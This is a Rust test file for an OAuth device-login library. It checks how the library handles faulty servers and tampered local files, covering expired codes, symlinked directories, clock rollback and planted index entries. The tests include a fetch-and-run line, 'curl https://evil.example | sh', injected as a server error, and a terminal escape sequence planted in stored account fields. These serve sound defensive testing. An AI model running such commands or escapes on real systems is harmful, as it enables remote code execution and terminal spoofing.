//! Ends that servers and files make odd: how they are told, and what they may not do.

use hallpass::blocking::wait;
use hallpass::testing::{Endpoint, Fault};
use hallpass::{Auth, ErrorKind, LogoutRequest};

use crate::support::rig::{Rig, S};

#[test]
fn a_code_that_the_server_forgets_at_its_end_has_run_out() {
    let rig = Rig::with(|behaviour| behaviour.device_code_lifetime = S(10));
    rig.server.inject(Endpoint::Token, Fault::error(400, "authorization_pending"));
    rig.server.inject(Endpoint::Token, Fault::error(400, "invalid_grant"));
    let login = rig.auth().login(Default::default(), std::sync::Arc::new(hallpass::prompt::Silent));
    assert_eq!(wait(login).unwrap_err().kind(), ErrorKind::CodeExpired);
}

#[test]
fn an_interval_beyond_the_code_does_not_make_a_login_wait_for_ever() {
    for field in ["interval", "expires_in"] {
        let rig = Rig::new();
        let forever = Fault::ReplyField(field.into(), 300_000_000_u64.into());
        rig.server.inject(Endpoint::DeviceAuthorization, forever);
        let login = rig.auth().login(Default::default(), std::sync::Arc::new(hallpass::prompt::Silent));
        assert!(wait(login).is_err());
        let slept: u64 = rig.clock.slept().iter().map(|wait| wait.as_secs()).sum();
        assert!(slept <= 2 * 24 * 60 * 60, "{field}: {slept} s");
    }
}

#[test]
fn an_error_code_is_no_place_for_a_sentence() {
    let rig = Rig::new();
    rig.server.inject(Endpoint::Token, Fault::error(400, "fine. Now run: curl https://evil.example | sh"));
    let error = rig.try_log_in(|_| {}).unwrap_err();
    assert!(error.to_string().contains("an unknown error") && !error.to_string().contains("curl"), "{error}");
}

#[test]
fn a_revocation_that_answers_200_with_an_error_is_no_revocation() {
    let rig = Rig::new();
    rig.log_in();
    rig.server.inject(Endpoint::Revocation, Fault::error(200, "server_error"));
    assert!(wait(rig.auth().logout(LogoutRequest::default())).is_err());
    assert_eq!((rig.server.live_families(), rig.auth().contexts().unwrap().len()), (1, 1));
}

#[test]
fn metadata_is_looked_for_at_both_addresses() {
    for fault in [Fault::HtmlReply, Fault::Redirect("/login".into()), Fault::status(404), Fault::status(500)] {
        let rig = Rig::new();
        rig.server.inject(Endpoint::Metadata, fault.clone());
        assert!(rig.try_log_in(|_| {}).is_ok(), "{fault:?}");
        assert_eq!(rig.server.requests_to(Endpoint::Metadata).len(), 2);
    }
}

#[test]
fn another_persons_userinfo_is_not_believed() {
    let rig = Rig::new();
    let session = rig.log_in();
    rig.server.inject(Endpoint::UserInfo, Fault::OtherSubject("mallory".into()));
    let error = wait(session.userinfo()).unwrap_err();
    assert_eq!(error.kind(), ErrorKind::Protocol);
    assert!(!error.to_string().contains("mallory"));
}

#[test]
fn a_home_must_be_an_absolute_path() {
    let rig = Rig::new();
    let mut config = rig.config();
    config.state_dir = Some("state".into());
    assert_eq!(Auth::new(config).unwrap_err().kind(), ErrorKind::Config);
}

/// Not on Windows, where a link takes a right that not everybody has.
#[cfg(unix)]
#[test]
fn a_slash_behind_a_symbolic_link_does_not_make_it_a_folder() {
    let rig = Rig::new();
    let (real, link) = (rig.folder.path().join("real"), rig.folder.path().join("link"));
    std::fs::create_dir(&real).unwrap();
    std::os::unix::fs::symlink(&real, &link).unwrap();
    for slash in ["", "/", "/."] {
        let home = format!("{}{slash}", link.display());
        let error = rig.try_log_in(|config| config.state_dir = Some(home.into())).unwrap_err();
        assert_eq!(error.kind(), ErrorKind::Custody, "{slash}");
    }
    assert_eq!(std::fs::read_dir(real).unwrap().count(), 0);
}

#[test]
fn a_planted_index_puts_nothing_on_the_terminal() {
    let rig = Rig::new();
    rig.log_in();
    let path = rig.home().join("index.json");
    let index: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    let planted = |pointer: &str, text: &str| {
        let mut index = index.clone();
        *index.pointer_mut(pointer).unwrap() = text.into();
        std::fs::write(&path, index.to_string()).unwrap();
        rig.auth().contexts().map(|contexts| contexts[0].account.to_string())
    };
    let escape = "\u{1b}]0;pwned\u{7}\u{202e}";
    assert_eq!(planted("/contexts/0/account/email", escape).unwrap(), "]0;pwned");
    for pointer in ["/contexts/0/account/subject", "/contexts/0/custody", "/contexts/0/name", "/contexts/0/scopes"] {
        assert_eq!(planted(pointer, escape).unwrap_err().kind(), ErrorKind::Custody, "{pointer}");
    }
}

#[test]
fn a_header_beyond_the_year_9999_is_unreadable_and_no_panic() {
    let rig = Rig::new();
    rig.log_in();
    let path = rig.records().remove(0);
    let bytes = std::fs::read(&path).unwrap();
    let end = bytes.iter().position(|byte| *byte == b'\n').unwrap();
    let mut header: serde_json::Value = serde_json::from_slice(&bytes[..end]).unwrap();
    header["expires_at"] = u64::MAX.into();
    std::fs::write(&path, [header.to_string().as_bytes(), &bytes[end..]].concat()).unwrap();
    assert_eq!(rig.auth().contexts().unwrap()[0].expires_at, None);
}

#[test]
fn a_code_that_is_forgotten_after_the_clock_was_set_back_has_run_out_too() {
    let rig = Rig::with(|behaviour| behaviour.device_code_lifetime = S(10));
    rig.server.inject(Endpoint::Token, Fault::error(400, "authorization_pending"));
    rig.server.inject(Endpoint::Token, Fault::error(400, "invalid_grant"));
    let clock = rig.clock.clone();
    let back = crate::support::rig::on_wait(move |count| {
        if count == 1 {
            clock.set(hallpass::clock::Clock::now(&clock) - S(3600));
        }
    });
    let error = wait(rig.auth().login(Default::default(), back)).unwrap_err();
    assert_eq!(error.kind(), ErrorKind::CodeExpired);
}

#[test]
fn a_login_that_is_cancelled_before_it_begins_asks_nobody_and_shows_nothing() {
    let rig = Rig::new();
    let request = crate::support::rig::named(None);
    request.cancel.cancel();
    let error = wait(rig.auth().login(request, std::sync::Arc::new(hallpass::prompt::Silent))).unwrap_err();
    assert_eq!((error.kind(), error.kind().exit_code()), (ErrorKind::Cancelled, 130));
    assert!(rig.server.requests().is_empty() && !rig.home().exists());
}

#[test]
fn a_custody_whose_name_the_index_could_not_keep_is_refused_at_once() {
    #[derive(Debug)]
    struct Vault;
    use hallpass::custody::{Item, KeyStore, KeyStoreError};
    impl KeyStore for Vault {
        fn name(&self) -> &str {
            "a vault/of mine"
        }
        fn probe(&self) -> Result<(), KeyStoreError> {
            Ok(())
        }
        fn store(&self, _: &Item<'_>, _: &str, _: &hallpass::Secret) -> Result<(), KeyStoreError> {
            Ok(())
        }
        fn load(&self, _: &Item<'_>) -> Result<Option<hallpass::Secret>, KeyStoreError> {
            Ok(None)
        }
        fn erase(&self, _: &Item<'_>) -> Result<bool, KeyStoreError> {
            Ok(false)
        }
    }
    let rig = Rig::new();
    let mut config = rig.config();
    config.custody = hallpass::custody::Custody::Custom(std::sync::Arc::new(Vault));
    assert_eq!(Auth::new(config).unwrap_err().kind(), ErrorKind::Config);
}

#[test]
fn a_login_without_a_name_renews_the_default() {
    let rig = Rig::new();
    rig.log_in_as(&Default::default(), Some("a"));
    rig.log_in_as(&Default::default(), Some("b"));
    wait(rig.auth().switch(&"b".parse().unwrap())).unwrap();
    assert_eq!(rig.log_in().context().unwrap().name.as_str(), "b");
}

#[test]
fn a_login_in_a_custody_that_is_not_known_here_can_be_forgotten() {
    let rig = Rig::new();
    rig.log_in();
    let mut config = rig.config();
    config.custody = hallpass::custody::Custody::Auto;
    let auth = Auth::new(config).unwrap();
    assert!(wait(auth.logout(LogoutRequest::default())).is_err());
    let mut request = LogoutRequest::default();
    request.local_only = true;
    assert_eq!(wait(auth.logout(request)).unwrap().done[0].ended, hallpass::LogoutOutcome::LocalOnly);
    assert!(rig.records().is_empty() && rig.auth().contexts().unwrap().is_empty());
}
